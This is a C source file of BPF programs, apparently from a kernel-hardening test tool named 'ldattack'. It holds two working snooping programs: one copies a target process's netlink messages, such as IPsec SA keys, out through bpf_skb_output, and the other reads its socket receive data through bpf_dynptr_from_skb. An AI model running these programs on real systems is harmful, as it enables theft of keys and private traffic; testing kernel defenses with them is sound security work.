// SPDX-License-Identifier: GPL-2.0
/*
 * The BPF programs of ldattack's bpf-skb-output and bpf-dynptr-skb
 * (attack_skb.c), each loaded alone.
 *
 * skb_output: an fentry
 * program on netlink_rcv_skb(), which every netlink message sent to the
 * kernel passes through (rtnetlink's, xfrm_user's: an IKE daemon's SA
 * keys), handing the sk_buff it is given to bpf_skb_output(), which
 * copies the message's first bytes into a perf buffer. It loads no field
 * of the sk_buff itself (that would be a BTF pointer load, which asks
 * where the kernel has our fixes): it passes the pointer on, and asks
 * nothing on a kernel without them. Only the victim's messages, by pid.
 *
 * dynptr_skb: a tp_btf program on skb_copy_datagram_iovec, which every
 * socket's receive passes with the data still in the sk_buff (unix,
 * netlink, udp, tcp), making a dynptr over it with bpf_dynptr_from_skb()
 * (allowed for tracing programs from Linux 6.11) and reading the
 * victim's first bytes out of it: again not a load through the pointer.
 */
#include <linux/bpf.h>
#include <bpf/bpf_helpers.h>
#include <bpf/bpf_tracing.h>

#include "attack_skb.h"

char LICENSE[] SEC("license") = "GPL";

struct sk_buff;

/* set by ldattack before load (.rodata): the victim */
const volatile __u32 target_pid;

struct {
	__uint(type, BPF_MAP_TYPE_PERF_EVENT_ARRAY);
	__uint(key_size, sizeof(__u32));
	__uint(value_size, sizeof(__u32));
} skb_out SEC(".maps");

SEC("fentry/netlink_rcv_skb")
int BPF_PROG(skb_output, struct sk_buff *skb)
{
	__u32 pid = bpf_get_current_pid_tgid() >> 32;

	if (pid != target_pid)
		return 0;
	bpf_skb_output(skb, &skb_out, BPF_F_CURRENT_CPU | ((__u64)SKB_ATTACK_BYTES << 32),
		       &pid, sizeof(pid));
	return 0;
}

extern int bpf_dynptr_from_skb(struct __sk_buff *skb, __u64 flags,
			       struct bpf_dynptr *ptr__uninit) __ksym __weak;

/* what dynptr_skb read (.bss, read by ldattack) */
char dyn_out[sizeof(SKB_ATTACK_SECRET)];
__u32 dyn_hits;

SEC("tp_btf/skb_copy_datagram_iovec")
int BPF_PROG(dynptr_skb, struct sk_buff *skb, int len)
{
	struct bpf_dynptr p;

	if ((__u32)(bpf_get_current_pid_tgid() >> 32) != target_pid || dyn_hits)
		return 0;
	if (bpf_dynptr_from_skb((struct __sk_buff *)skb, 0, &p))
		return 0;
	if (!bpf_dynptr_read(dyn_out, sizeof(SKB_ATTACK_SECRET) - 1, &p, 0, 0))
		dyn_hits = 1;
	return 0;
}
